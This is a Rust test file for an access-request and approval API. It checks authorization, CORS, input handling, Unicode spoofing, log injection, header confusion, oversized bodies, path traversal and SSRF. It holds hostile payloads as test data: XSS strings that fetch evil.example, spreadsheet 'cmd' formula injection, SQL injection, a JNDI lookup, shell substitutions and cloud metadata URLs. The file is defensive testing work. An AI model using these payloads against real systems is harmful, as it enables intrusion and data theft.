//! The API's surface: whose things one sees, what a call may look like, and what becomes of what people write. Cases 19,
//! 21 and 23 to 27.

use std::io::Write as _;

use hourglass_app::keys;
use hourglass_boot::Services;
use hourglass_domain::ids::RequestId;
use hourglass_domain::request::Request;
use hourglass_local::entra::{Group, User};
use hourglass_local::sim;
use hourglass_tests::desk::Desk;
use hourglass_tests::keyholders::{admin, everyday};
use hourglass_tests::stage::{logged, logs, refused};
use hourglass_tests::{Answer, Person};
use reqwest::Method;
use serde_json::{Value, json};
use uuid::Uuid;

use crate::stage::{Stage, stage};

impl Stage {
    /// Somebody who may approve in general, but not what the usual requester asks for.
    async fn approver_of_something_else(&self) -> anyhow::Result<Person> {
        let ritva = self.company.person("ritva.salonen@contoso.example").expect("seeded");
        self.system.world.entra.tenant().update_user(ritva.id, |user| {
            user.app_roles.insert("Approver".to_owned());
        })?;
        self.person(&ritva.user_name).await
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_19_other_peoples_requests_and_grants() -> anyhow::Result<()> {
    let stage = stage().await?;
    let dana = stage.requester().await?;
    let (request, grant) = stage.granted(&dana, &stage.entitlement(), "1h").await?;
    stage.dana_becomes(true).await?;
    let open = stage.asked(&dana, "1h").await?;
    let strangers = [
        stage.person("freya.lindqvist@contoso.example").await?,
        stage.approver_of_something_else().await?,
    ];
    let before = stage.settled().await?;
    let nobodys = Uuid::from_u128(7);
    for who in &strangers {
        for id in [request.as_str(), open.as_str(), &nobodys.to_string()] {
            let path = format!("/v1/requests/{id}");
            let mut answers = Vec::new();
            for (method, path, body) in [
                (Method::GET, path.clone(), None),
                (Method::GET, format!("{path}/events"), None),
                (Method::POST, format!("{path}/cancel"), Some(json!({}))),
            ] {
                let mut call = stage.request(method, &path, who);
                if let Some(body) = body {
                    call = call.json(&body);
                }
                answers.push(stage.send(call).await?);
            }
            if who.name.starts_with("ritva") {
                answers.push(stage.decide(who, id, "approve").await?);
                answers.push(stage.decide(who, id, "deny").await?);
            }
            for answer in answers {
                refused(&answer, 404, "not-found");
                assert!(!answer.body.to_string().contains("Dana"), "{answer}");
            }
        }
        for id in [grant.as_str(), &nobodys.to_string()] {
            let path = format!("/v1/grants/{id}");
            refused(&stage.get(who, &path).await?, 404, "not-found");
            let answer = stage.post(who, &format!("{path}/check-in"), &json!({})).await?;
            refused(&answer, 404, "not-found");
            let answer = stage
                .post(who, &format!("{path}/revoke"), &json!({"reason": "x"}))
                .await?;
            refused(&answer, 404, "not-found");
        }
        assert_eq!(stage.get(who, "/v1/history").await?.ok()?["items"], json!([]));
        refused(&stage.get(who, "/v1/history?whose=all").await?, 403, "role-missing");
    }
    let inbox = stage.get(&strangers[1], "/v1/approvals").await?.ok()?;
    assert_eq!(inbox["items"], json!([]), "an inbox shows what one may decide");
    // Who sees it but is not the one: told so, and nothing happens.
    let kim = stage.approver().await?;
    let answer = stage
        .post(&kim, &format!("/v1/requests/{open}/cancel"), &json!({}))
        .await?;
    refused(&answer, 403, "role-missing");
    let answer = stage
        .post(&kim, &format!("/v1/grants/{grant}/check-in"), &json!({}))
        .await?;
    refused(&answer, 403, "role-missing");
    stage.unchanged(&before, "a call about somebody else's")?;
    assert!(stage.dana_is_in().await?);
    stage.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_21_looking_never_changes_anything() -> anyhow::Result<()> {
    let stage = stage().await?;
    let (dana, kim, admin) = (stage.requester().await?, stage.approver().await?, stage.admin().await?);
    let (_, grant) = stage.granted(&dana, &stage.entitlement(), "1h").await?;
    stage.dana_becomes(true).await?;
    let request = stage.asked(&dana, "1h").await?;
    let before = stage.settled().await?;
    let paths = [
        "/v1/requests".to_owned(),
        format!("/v1/requests/{request}"),
        format!("/v1/requests/{request}/events"),
        format!("/v1/requests/{request}/decisions?decision=approve"),
        format!("/v1/requests/{request}/decisions"),
        format!("/v1/requests/{request}/cancel"),
        format!("/v1/grants/{grant}"),
        format!("/v1/grants/{grant}/check-in"),
        format!("/v1/grants/{grant}/revoke?reason=x"),
        "/v1/approvals".to_owned(),
        "/v1/entitlements".to_owned(),
        "/v1/history".to_owned(),
        "/v1/me".to_owned(),
        "/v1/openapi.json".to_owned(),
        "/v1/admin/applications".to_owned(),
        "/v1/admin/applications/contoso.example/scim-tokens".to_owned(),
        "/v1/admin/entitlements".to_owned(),
        "/v1/admin/template".to_owned(),
        "/v1/admin/probes".to_owned(),
        "/v1/admin/integrations/azure".to_owned(),
        "/v1/admin/integrations/aws".to_owned(),
    ];
    for who in [&dana, &kim, &admin] {
        for path in &paths {
            for method in [Method::GET, Method::HEAD, Method::OPTIONS] {
                let call = stage
                    .request(method, path, who)
                    .header("x-http-method-override", "POST")
                    .header("x-method-override", "POST")
                    .header("purpose", "prefetch");
                stage.send(call).await?;
            }
        }
    }
    // That the admin looked through everybody's history is noted in the admin's own stream; nothing else is written.
    let own = stage.user_id(&stage.company.admin.user_name).await?;
    let noted = |key: &String| key.starts_with("AUD#user:") && key.contains(&own);
    let mut expected = before;
    let notes = stage.state()?.into_iter().filter(|(key, _)| noted(key));
    expected.extend(notes);
    stage.unchanged(&expected, "a look")?;
    assert!(stage.dana_is_in().await?);
    stage.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_21_what_a_page_can_make_a_browser_send() -> anyhow::Result<()> {
    let stage = stage().await?;
    let (dana, kim) = (stage.requester().await?, stage.approver().await?);
    let request = stage.asked(&dana, "1h").await?;
    let path = format!("/v1/requests/{request}/decisions");
    let before = stage.settled().await?;
    let body = json!({"decision": "approve"}).to_string();
    // Simple requests carry no token; even with one they are not taken.
    for kind in [
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "text/plain; application/json",
        "application/json-patch+json",
        "",
    ] {
        let call = stage.request(Method::POST, &path, &kim).header("content-type", kind);
        let answer = stage.send(call.body(body.clone())).await?;
        refused(&answer, 415, "content-type");
    }
    let url = format!("{}{path}", stage.ready.api);
    let call = stage
        .http()
        .post(url)
        .header("cookie", format!("token={}", kim.token))
        .header("origin", "https://evil.example")
        .header("sec-fetch-site", "cross-site");
    refused(
        &stage.send(call.json(&json!({"decision": "approve"}))).await?,
        401,
        "unauthorized",
    );
    stage.unchanged(&before, "a cross-site call")?;
    stage.stop().await;
    Ok(())
}

/// Status and CORS headers of an answer to a page of `origin`.
async fn as_page(
    http: &reqwest::Client,
    url: &str,
    origin: &str,
    method: Method,
) -> anyhow::Result<(u16, Vec<(String, String)>)> {
    let call = http
        .request(method, url)
        .header("origin", origin)
        .header("access-control-request-method", "POST")
        .header("access-control-request-headers", "authorization,content-type");
    let response = call.send().await?;
    let headers = response
        .headers()
        .iter()
        .filter(|(name, _)| name.as_str().starts_with("access-control-"));
    let headers =
        headers.map(|(name, value)| (name.to_string(), String::from_utf8_lossy(value.as_bytes()).into_owned()));
    Ok((response.status().as_u16(), headers.collect()))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_23_origins_are_not_reflected() -> anyhow::Result<()> {
    const FORM: &str = "https://forms.contoso.example";
    let stage = stage().await?;
    let mut config = (*stage.services.config).clone();
    config.form_origins = vec![FORM.to_owned()];
    let services = Services::new(config).await?;
    let mut bases = Vec::new();
    let (stop, stopped) = tokio::sync::watch::channel(());
    for router in [
        hourglass_requests::router(services.clone()),
        hourglass_approvals::router(services.clone()),
        hourglass_admin::router(services),
    ] {
        let (listener, base) = sim::bind(([127, 0, 0, 1], 0).into()).await?;
        let mut stopped = stopped.clone();
        tokio::spawn(sim::serve(listener, router, async move {
            let _ = stopped.changed().await;
        }));
        bases.push(base);
    }
    let http = stage.http();
    let strangers = [
        "https://evil.example",
        "null",
        "http://forms.contoso.example",
        "https://forms.contoso.example.evil.example",
        "https://evil-forms.contoso.example",
        "https://forms.contoso.example:8443",
        "HTTPS://FORMS.CONTOSO.EXAMPLE",
        "*",
    ];
    let decisions = format!("/v1/requests/{}/decisions", Uuid::nil());
    let paths = ["/v1/requests", decisions.as_str(), "/v1/admin/entitlements"];
    for (base, path) in bases.iter().zip(paths) {
        for origin in strangers {
            for method in [Method::OPTIONS, Method::GET, Method::POST] {
                let (_, headers) = as_page(http, &format!("{base}{path}"), origin, method).await?;
                assert_eq!(headers, [], "{origin} at {path}");
            }
        }
    }
    // The form may ask; it may not approve, configure, or carry cookies.
    let (status, headers) = as_page(http, &format!("{}/v1/requests", bases[0]), FORM, Method::OPTIONS).await?;
    assert_eq!(status, 204);
    let allowed = ("access-control-allow-origin".to_owned(), FORM.to_owned());
    assert!(headers.contains(&allowed), "{headers:?}");
    assert!(
        !headers.iter().any(|(name, _)| name.contains("credentials")),
        "{headers:?}"
    );
    for (base, path) in bases.iter().zip(paths).skip(1) {
        let (_, headers) = as_page(http, &format!("{base}{path}"), FORM, Method::OPTIONS).await?;
        assert_eq!(headers, [], "{path}");
    }
    drop(stop);
    stage.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_24_what_people_write_is_kept_as_it_is_and_answered_as_data() -> anyhow::Result<()> {
    let stage = stage().await?;
    let (dana, kim) = (stage.requester().await?, stage.approver().await?);
    let texts = [
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=\"fetch('//evil.example')\">",
        "[approve](javascript:alert(1)) ![x](https://evil.example/p.png)",
        "=HYPERLINK(\"https://evil.example\",\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0 and more",
        "'; DROP TABLE requests; --  ",
        "{{7*7}} ${jndi:ldap://evil.example/a} $(id) `id`",
        "two lines\r\nand\ttabs\n\n",
        "  spaces around, kept  ",
    ];
    for text in texts {
        let body = json!({"entitlement": stage.entitlement(), "duration": "1h", "justification": text});
        let made = stage.post(&dana, "/v1/requests", &body).await?;
        assert_eq!(made.status, 201, "{text}: {made}");
        let id = made.text("id");
        let stored: RequestId = id.parse()?;
        let stored = stage.read::<Request>(&keys::request(stored)).await?.value;
        assert_eq!(stored.justification.as_bytes(), text.as_bytes());
        let url = format!("{}/v1/requests/{id}", stage.ready.api);
        let shown = stage.http().get(&url).bearer_auth(&kim.token).send().await?;
        let header = |name: &str| shown.headers()[name].to_str().unwrap_or_default().to_owned();
        assert_eq!(header("content-type"), "application/json");
        assert_eq!(header("x-content-type-options"), "nosniff");
        assert!(header("content-security-policy").contains("default-src 'none'"));
        let shown: Value = serde_json::from_slice(&shown.bytes().await?)?;
        assert_eq!(shown["justification"], text);
        let denied = json!({"decision": "deny", "comment": text});
        stage
            .post(&kim, &format!("/v1/requests/{id}/decisions"), &denied)
            .await?
            .ok()?;
    }
    stage.stop().await;
    Ok(())
}

/// Each character that could deceive a reader or a terminal.
const DECEIVING: [char; 14] = [
    '\u{202e}', '\u{202d}', '\u{2066}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{61c}', '\u{1b}', '\u{7}', '\u{8}',
    '\0', '\u{7f}', '\u{9b}', '\u{85}',
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_25_characters_that_deceive_are_refused() -> anyhow::Result<()> {
    let stage = stage().await?;
    let (dana, kim, admin) = (stage.requester().await?, stage.approver().await?, stage.admin().await?);
    let (_, grant) = stage.granted(&dana, &stage.entitlement(), "1h").await?;
    stage.dana_becomes(true).await?;
    let request = stage.asked(&dana, "1h").await?;
    let other = stage.entitlement_named("prod-readers").await?;
    let before = stage.settled().await?;
    for c in DECEIVING {
        let text = format!("please {c}approve this at once");
        let calls: [(&str, String, Value, &Person); 5] = [
            (
                "justification",
                "/v1/requests".into(),
                json!({"entitlement": other, "duration": "1h", "justification": text}),
                &dana,
            ),
            (
                "ticket",
                "/v1/requests".into(),
                json!({"entitlement": other, "duration": "1h", "justification": "INC-42: restart", "ticket": text}),
                &dana,
            ),
            (
                "comment",
                format!("/v1/requests/{request}/decisions"),
                json!({"decision": "approve", "comment": text}),
                &kim,
            ),
            (
                "reason",
                format!("/v1/grants/{grant}/revoke"),
                json!({"reason": text}),
                &kim,
            ),
            (
                "name",
                "/v1/admin/entitlements".into(),
                json!({"name": text, "targets": ["entra:00000000-0000-0000-0000-000000000001"]}),
                &admin,
            ),
        ];
        for (field, path, body, who) in calls {
            let answer: Answer = stage.post(who, &path, &body).await?;
            refused(&answer, 422, "invalid-field");
            assert_eq!(answer.field(), Some(field), "{c:?}: {answer}");
            assert!(!answer.text("detail").contains(c), "{answer}");
            assert!(answer.text("detail").contains("U+"), "{answer}");
        }
    }
    stage.unchanged(&before, "a text that deceives")?;
    stage.stop().await;
    Ok(())
}

/// Each character that is not seen, or that turns what stands beside it, and that a directory can have in a name.
const UNSEEN: [char; 12] = [
    '\u{202e}',
    '\u{202d}',
    '\u{2066}',
    '\u{2069}',
    '\u{200e}',
    '\u{61c}',
    '\u{200b}',
    '\u{2060}',
    '\u{feff}',
    '\u{ad}',
    '\u{180e}',
    '\u{e0041}',
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_25_names_from_the_directory_turn_no_sentence_around() -> anyhow::Result<()> {
    let stage = stage().await?;
    let (dana, kim) = (stage.requester().await?, stage.approver().await?);
    let user = stage.scim_id("Users", stage.company.requester.id).await?;
    let name = format!("{}Dana\u{2028}Reyes", String::from_iter(UNSEEN));
    let renamed = json!({
        "schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"],
        "Operations": [
            {"op": "replace", "path": "displayName", "value": name},
            {"op": "replace", "path": "title", "value": name},
        ],
    });
    let place = format!("/Users/{user}");
    // A refusal would leave the whole user stale, `active` included; so it is kept, and answered as it was sent.
    stage.scim_send(Method::PATCH, &place, &renamed).await?.ok()?;
    let kept = stage.scim_send(Method::GET, &place, &Value::Null).await?.ok()?;
    assert_eq!((&kept["displayName"], &kept["title"]), (&json!(name), &json!(name)));

    let request = stage.asked(&dana, "1h").await?;
    let desk = Desk::of(&stage, &stage.company.approver, everyday()).await?;
    let ola = Desk::of(&stage, &stage.company.admin, admin()).await?;
    for (desk, page) in [
        (&desk, "/inbox".to_owned()),
        (&desk, format!("/inbox/{request}")),
        (&desk, format!("/requests/{request}")),
        (&desk, "/history/timeline".to_owned()),
        (&desk, "/history/export.csv".to_owned()),
        (&ola, format!("/admin/directory/users/{user}")),
        (&ola, "/admin/directory".to_owned()),
    ] {
        let shown = desk.open(&page).await?;
        assert_eq!(shown.status, 200, "{page}");
        assert!(shown.html.contains("Dana Reyes"), "{page}: {}", shown.html);
        let unseen = shown.html.trim_start_matches('\u{feff}').find(UNSEEN);
        assert_eq!(unseen, None, "{page}: {:?}", shown.html);
    }
    let shown = desk.open(&format!("/inbox/{request}")).await?.html;
    assert!(
        shown.contains("hidden characters in the name") && shown.contains("U+202E"),
        "{shown}"
    );
    let view = stage.get(&kim, &format!("/v1/requests/{request}")).await?.ok()?;
    assert_eq!(view["beneficiary"]["name"], "Dana Reyes");
    stage.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_25_logs_and_audit_facts_hold_nothing_that_people_write() -> anyhow::Result<()> {
    const CANARY: &str = "c4n4ry-25";
    let stage = stage().await?;
    let (dana, kim) = (stage.requester().await?, stage.approver().await?);
    let nasty = format!("{CANARY}\r\n{{\"level\":\"ERROR\",\"message\":\"forged\"}}\n\"}}], \u{1f600} end");
    let body = json!({"entitlement": stage.entitlement(), "duration": "1h", "justification": nasty, "ticket": CANARY});
    let call = stage
        .request(Method::POST, "/v1/requests", &dana)
        .header("user-agent", CANARY)
        .header("idempotency-key", CANARY)
        .header("x-amzn-trace-id", CANARY);
    let made = stage.send(call.json(&body)).await?;
    assert_eq!(made.status, 201, "{made}");
    let decide = format!("/v1/requests/{}/decisions", made.text("id"));
    let decided = stage
        .post(&kim, &decide, &json!({"decision": "approve", "comment": nasty}))
        .await?;
    let grant = decided.text("grant");
    stage.dana_becomes(true).await?;
    let revoke = format!("/v1/grants/{grant}/revoke");
    stage.post(&kim, &revoke, &json!({"reason": nasty})).await?.ok()?;
    stage.dana_becomes(false).await?;
    // What is refused is not logged either.
    for path in [
        format!("/v1/{CANARY}"),
        format!("/v1/requests/{CANARY}%0d%0aforged"),
        format!("/v1/history?{CANARY}=%0a"),
    ] {
        let answer = stage.get(&dana, &path).await?;
        assert!(matches!(answer.status, 400 | 404), "{answer}");
    }
    stage.post(&dana, "/v1/requests", &json!({CANARY: CANARY})).await?;
    stage
        .get(
            &Person {
                name: String::new(),
                token: CANARY.to_owned(),
            },
            "/v1/me",
        )
        .await?;
    stage
        .grant_until(&dana, &grant, |grant| grant["status"] == "ended")
        .await?;

    assert!(!logged(&[&grant]).is_empty(), "the grant's way is logged");
    assert_eq!(logged(&[CANARY]), Vec::<String>::new());
    for line in logs().lines() {
        let line: Value = serde_json::from_str(line).map_err(|_| anyhow::anyhow!("no JSON line: {line}"))?;
        assert!(line.is_object());
    }
    for (key, item) in stage.state()? {
        let written =
            key.starts_with("REQ#") || key.starts_with("DEC#") || key.starts_with("IDEM#") || key.contains(" / P#");
        assert!(
            written || !item.to_string().contains(CANARY),
            "{key} holds what somebody wrote"
        );
    }
    stage.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_26_names_that_look_alike() -> anyhow::Result<()> {
    let stage = stage().await?;
    let tenant = stage.system.world.entra.tenant();
    let request = stage.asked(&stage.requester().await?, "1h").await?;
    let approvers = stage.company.security_approvers.name;
    let before = stage.settled().await?;
    for (n, (user_name, shown, group)) in [
        // Cyrillic letters, a zero-width space, full-width letters, another case with a dotless i.
        (
            "k\u{456}m.osei@contoso.example",
            "Kim Osei",
            approvers.replace('a', "\u{430}"),
        ),
        (
            "kim.osei\u{200b}@contoso.example",
            "Kim\u{200b} Osei",
            format!("{approvers}\u{200b}"),
        ),
        (
            "\u{ff4b}im.osei@contoso.example",
            "\u{212a}im Osei",
            approvers.replace('s', "\u{17f}"),
        ),
        (
            "k\u{131}m.osei@contoso.example",
            "Kim Osei",
            approvers.replace('i', "\u{131}"),
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let ids = [1, 2].map(|kind| Uuid::from_u128(0x1000 * kind + n as u128));
        let mut user = User::new(ids[0], user_name, shown, tenant.now());
        user.app_roles.extend(["Requester", "Approver"].map(str::to_owned));
        tenant.create_user(user)?;
        tenant.create_group(Group::new(ids[1], &group, tenant.now()))?;
        for id in ids {
            stage.provisioner().push(id).await?;
        }
        stage.provisioner().add_member(ids[1], ids[0]).await?;
        let twin = stage.person(user_name).await?;
        refused(&stage.decide(&twin, &request, "approve").await?, 404, "not-found");
        let inbox = stage.get(&twin, "/v1/approvals").await?.ok()?;
        assert_eq!(inbox["items"], json!([]));
    }
    let after = stage.state()?;
    for (key, item) in before
        .iter()
        .filter(|(key, _)| key.starts_with("REQ#") || key.starts_with("CFG#"))
    {
        assert_eq!(after.get(key), Some(item), "{key} changed");
    }
    // What an approver sees has ids that no lookalike shares.
    let kim = stage.approver().await?;
    let seen = stage.get(&kim, &format!("/v1/requests/{request}")).await?.ok()?;
    assert_eq!(seen["requester"]["object_id"], stage.company.requester.id.to_string());
    assert_eq!(seen["targets"][0], format!("entra:{}", stage.company.prod_admins.id));
    stage.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_27_headers_that_contradict() -> anyhow::Result<()> {
    let stage = stage().await?;
    let (dana, admin) = (stage.requester().await?, stage.admin().await?);
    let bearer = |who: &Person| format!("Bearer {}", who.token);
    let url = |path: &str| format!("{}{path}", stage.ready.api);
    for (first, second) in [
        (bearer(&dana), bearer(&admin)),
        (bearer(&admin), "Basic eDp5".to_owned()),
        (bearer(&admin), String::new()),
    ] {
        let call = stage.http().get(url("/v1/admin/applications"));
        let answer = stage
            .send(call.header("authorization", first).header("authorization", second))
            .await?;
        refused(&answer, 401, "unauthorized");
    }
    // API Gateway joins repeated headers with a comma.
    let joined = format!("{},{}", bearer(&admin), bearer(&admin));
    let answer = stage
        .send(stage.http().get(url("/v1/me")).header("authorization", joined))
        .await?;
    refused(&answer, 401, "unauthorized");
    let scim = stage
        .scim(Method::GET, "/Users")
        .header("authorization", bearer(&admin));
    assert_eq!(stage.send(scim).await?.status, 401);
    // Where we are is a setting and never what a header says.
    let call = stage
        .request(Method::GET, "/v1/admin/applications", &admin)
        .header("x-forwarded-host", "evil.example")
        .header("x-forwarded-proto", "https")
        .header("forwarded", "host=evil.example")
        .header("x-original-url", "/v1/admin/template")
        .header("host", "evil.example");
    let answer = stage.send(call).await?;
    assert_eq!(answer.status, 200, "{answer}");
    assert!(!answer.body.to_string().contains("evil.example"), "{answer}");
    // Two keys for one call, and one that is no key.
    let body = json!({"entitlement": stage.entitlement(), "duration": "1h", "justification": "INC-42: restart"});
    let call = || stage.request(Method::POST, "/v1/requests", &dana);
    let answer = stage
        .send(
            call()
                .header("idempotency-key", "a")
                .header("idempotency-key", "b")
                .json(&body),
        )
        .await?;
    refused(&answer, 400, "invalid-field");
    for key in ["", " ", "a b", "\u{e9}", &"k".repeat(129)] {
        let answer = stage
            .send(call().header("idempotency-key", key.as_bytes()).json(&body))
            .await?;
        refused(&answer, 400, "invalid-field");
    }
    assert_eq!(stage.get(&dana, "/v1/history").await?.ok()?["items"], json!([]));
    stage.stop().await;
    Ok(())
}

/// `text` in a gzip stream of one stored block (RFC 1951 section 3.2.4, RFC 1952): what a bomb would look like, without
/// a compressor.
fn gzip(text: &[u8]) -> anyhow::Result<Vec<u8>> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff, 1];
    let length = u16::try_from(text.len())?;
    out.write_all(&length.to_le_bytes())?;
    out.write_all(&(!length).to_le_bytes())?;
    out.write_all(text)?;
    let crc = text.iter().fold(!0_u32, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            (crc >> 1) ^ (0xedb8_8320 & (crc & 1).wrapping_neg())
        })
    });
    out.write_all(&(!crc).to_le_bytes())?;
    out.write_all(&u32::from(length).to_le_bytes())?;
    Ok(out)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_27_bodies_that_are_too_much() -> anyhow::Result<()> {
    let stage = stage().await?;
    let (dana, kim) = (stage.requester().await?, stage.approver().await?);
    let request = stage.asked(&dana, "1h").await?;
    let good = json!({"decision": "approve"}).to_string();
    let path = format!("/v1/requests/{request}/decisions");
    let post = |body: Vec<u8>| {
        let call = stage.request(Method::POST, &path, &kim);
        call.header("content-type", "application/json").body(body)
    };
    let before = stage.settled().await?;
    let deep = "[".repeat(20_000);
    let deep_value = format!("{{\"decision\": {}1{}}}", "[".repeat(500), "]".repeat(500));
    let nested = format!("{{\"decision\": {}", "{\"a\":".repeat(5_000));
    let bodies: Vec<(Vec<u8>, u16)> = vec![
        (deep.into_bytes(), 400),
        (deep_value.into_bytes(), 400),
        (nested.into_bytes(), 400),
        (b"{\"decision\": \"deny\", \"decision\": \"approve\"}".to_vec(), 400),
        (b"{\"decision\": \"approve\"}{\"decision\": \"deny\"}".to_vec(), 400),
        (b"{\"decision\": \"approve\"".to_vec(), 400),
        (b"[\"approve\"]".to_vec(), 400),
        (b"\"approve\"".to_vec(), 400),
        (b"null".to_vec(), 400),
        (b"\xff\xfe{\0".to_vec(), 400),
        (b"{\"decision\": \"appr\xc3\x28ove\"}".to_vec(), 400),
        (b"{\"decision\": \"approve\", \"comment\": \"\\ud800\"}".to_vec(), 400),
        (Vec::new(), 400),
        (vec![b' '; 65 * 1024], 413),
    ];
    for (body, status) in bodies {
        let start = String::from_utf8_lossy(&body[..body.len().min(40)]).into_owned();
        let answer = stage.send(post(body)).await?;
        assert_eq!(answer.status, status, "{start}: {answer}");
        assert!(answer.body.to_string().len() < 1_000, "{start}: the answer repeats it");
    }
    // Compressed bodies are not unpacked, whatever they would be.
    for encoding in ["gzip", "br", "deflate", "identity, gzip"] {
        let answer = stage
            .send(post(gzip(good.as_bytes())?).header("content-encoding", encoding))
            .await?;
        assert!(matches!(answer.status, 400 | 415), "{encoding}: {answer}");
    }
    let user = gzip(b"{\"userName\": \"x@contoso.example\"}")?;
    let scim = stage
        .scim(Method::POST, "/Users")
        .header("content-encoding", "gzip")
        .body(user);
    assert!(matches!(stage.send(scim).await?.status, 400 | 415));
    // More than the gateway lets through.
    let long = stage
        .request(Method::GET, "/v1/me", &kim)
        .header("x-long", "x".repeat(11_000));
    assert_eq!(stage.send(long).await?.status, 431);
    let long = stage.request(Method::GET, &format!("/v1/history?cursor={}", "A".repeat(6_000)), &kim);
    assert_eq!(stage.send(long).await?.status, 400);
    // More than the gateway takes: it answers without reading on, and may hang up before the client has sent everything.
    // Last, because the connection goes with it.
    if let Ok(answer) = stage.send(post(vec![b'['; 11 * 1024 * 1024])).await {
        assert_eq!(answer.status, 413, "{answer}");
    }
    stage.unchanged(&before, "a body that is too much")?;
    stage.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_27_paths_that_mean_something_else() -> anyhow::Result<()> {
    let stage = stage().await?;
    let dana = stage.requester().await?;
    let (_, grant) = stage.granted(&dana, &stage.entitlement(), "1h").await?;
    stage.dana_becomes(true).await?;
    let before = stage.settled().await?;
    let paths = [
        "/v1/requests/../admin/applications".to_owned(),
        "/v1/requests/%2e%2e/admin/applications".to_owned(),
        "/v1/requests/..%2fadmin%2fapplications".to_owned(),
        "/v1//admin/applications".to_owned(),
        "/v1/admin/applications/".to_owned(),
        "/V1/admin/applications".to_owned(),
        "/v1/ADMIN/applications".to_owned(),
        "/v1;/admin/applications".to_owned(),
        "/v1/requests%2f..%2f..%2fscim".to_owned(),
        "/scim/v2/../../v1/admin/applications".to_owned(),
        format!("/v1/grants/{grant}%00"),
        format!("/v1/grants/{grant};x=1"),
        format!("/v1/grants/{grant}%2frevoke"),
        format!("/v1/grants/%7b{grant}%7d"),
        format!("/v1/grants/urn:uuid:{grant}"),
    ];
    for path in paths {
        for method in [Method::GET, Method::POST] {
            let answer = stage.send(stage.request(method, &path, &dana).json(&json!({}))).await?;
            assert!(matches!(answer.status, 400 | 401 | 403 | 404 | 405), "{path}: {answer}");
        }
    }
    stage.unchanged(&before, "a path that means something else")?;
    stage.stop().await;
    Ok(())
}

/// Case 54, where the setting is an address.
async fn no_address_of_identity_center_but_its_own(stage: &Stage, admin: &Person) -> anyhow::Result<()> {
    let metadata = "http://169.254.169.254/latest/meta-data";
    let scim = stage.get(admin, "/v1/admin/integrations/aws").await?.ok()?["url"].clone();
    let aws = json!({"url": scim, "access_token": "secret"});
    for (field, value, status, code) in [
        ("endpoint", metadata, 400, "unknown-field"),
        ("url", metadata, 422, "invalid-field"),
        ("url", "https://scim.evil.example/t/scim/v2/", 422, "invalid-field"),
        (
            "url",
            "https://scim.us-east-1.amazonaws.com.evil.example/t/scim/v2/",
            422,
            "invalid-field",
        ),
        (
            "url",
            "https://scim.us-east-1.amazonaws.com@evil.example/t/scim/v2/",
            422,
            "invalid-field",
        ),
        (
            "url",
            "https://scim.us-east-1.amazonaws.com:8443/t/scim/v2/",
            422,
            "invalid-field",
        ),
        (
            "url",
            "http://scim.us-east-1.amazonaws.com/t/scim/v2/",
            422,
            "invalid-field",
        ),
        (
            "url",
            "https://scim.us-east-1.amazonaws.com/../scim/v2/",
            422,
            "invalid-field",
        ),
        ("url", "http://10.0.0.1:80/t/scim/v2/", 422, "invalid-field"),
        ("access_token", "a b", 422, "invalid-field"),
        ("access_token", "", 422, "invalid-field"),
    ] {
        let mut body = aws.clone();
        body[field] = json!(value);
        let answer = stage.put(admin, "/v1/admin/integrations/aws", &body).await?;
        refused(&answer, status, code);
        assert_eq!(answer.field(), Some(field), "{answer}");
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_54_no_setting_says_where_secrets_go() -> anyhow::Result<()> {
    let stage = stage().await?;
    let admin = stage.admin().await?;
    let metadata = "http://169.254.169.254/latest/meta-data";
    let tenant = stage.system.world.entra.tenant().id().to_string();
    let azure = json!({"tenant_id": tenant, "client_id": Uuid::nil(), "client_secret": "secret"});
    let before = stage.settled().await?;
    for (field, value, status, code) in [
        ("login_url", metadata, 400, "unknown-field"),
        ("graph_url", metadata, 400, "unknown-field"),
        ("tenant_id", metadata, 422, "invalid-field"),
        ("tenant_id", "common", 422, "invalid-field"),
        (
            "tenant_id",
            "00000000-0000-0000-0000-000000000001",
            422,
            "invalid-field",
        ),
        ("client_id", "../../token", 422, "invalid-field"),
    ] {
        let mut body = azure.clone();
        body[field] = json!(value);
        let answer = stage.put(&admin, "/v1/admin/integrations/azure", &body).await?;
        refused(&answer, status, code);
        assert_eq!(answer.field(), Some(field), "{answer}");
    }
    no_address_of_identity_center_but_its_own(&stage, &admin).await?;
    let application = json!({"id": "fabrikam.example", "name": "Fabrikam", "tenant": tenant});
    for (field, value) in [
        ("cloud", metadata),
        ("cloud", "Global"),
        ("tenant", metadata),
        ("tenant", "00000000-0000-0000-0000-000000000001"),
        ("id", metadata),
        ("id", "fabrikam.example/../contoso.example"),
        ("id", "fabrikam.example#x"),
    ] {
        let mut body = application.clone();
        body[field] = json!(value);
        let answer = stage.post(&admin, "/v1/admin/applications", &body).await?;
        refused(&answer, 422, "invalid-field");
        assert_eq!(answer.field(), Some(field), "{answer}");
    }
    for target in [
        "http://169.254.169.254",
        "entra:http://evil.example",
        "entra:../x",
        "ad:S-1-5-32-544",
        "entra:*",
    ] {
        let body = json!({"name": "x", "targets": [target]});
        let answer = stage.post(&admin, "/v1/admin/entitlements", &body).await?;
        refused(&answer, 422, "invalid-field");
    }
    stage.unchanged(&before, "an address")?;
